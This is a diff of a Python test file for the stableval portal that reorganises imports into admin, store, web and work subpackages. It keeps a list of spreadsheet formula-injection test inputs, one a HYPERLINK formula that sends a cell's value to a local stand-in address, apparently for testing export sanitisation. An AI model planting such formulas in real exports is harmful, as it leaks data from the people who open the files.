@@ -36,13 +36,13 @@ from typer.testing import CliRunner
 
 from stableval.cli import app as cli
 from stableval.errors import InputError
-from stableval.portal.app import create_app
-from stableval.portal.assignment import claim_next
-from stableval.portal.db import Database
-from stableval.portal.export import export, to_bytes
-from stableval.portal.flow import MAX_TEXT, empty_draft, save_draft, submit
-from stableval.portal.manage import create_track, import_questions, set_retired
-from stableval.portal.models import Assignment, Judgment, Question, Submission, utcnow
+from stableval.portal.admin.export import export, to_bytes
+from stableval.portal.admin.manage import create_track, import_questions, set_retired
+from stableval.portal.store.db import Database
+from stableval.portal.store.models import Assignment, Judgment, Question, Submission, utcnow
+from stableval.portal.web.app import create_app
+from stableval.portal.work.assignment import claim_next
+from stableval.portal.work.flow import MAX_TEXT, empty_draft, save_draft, submit
 
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]
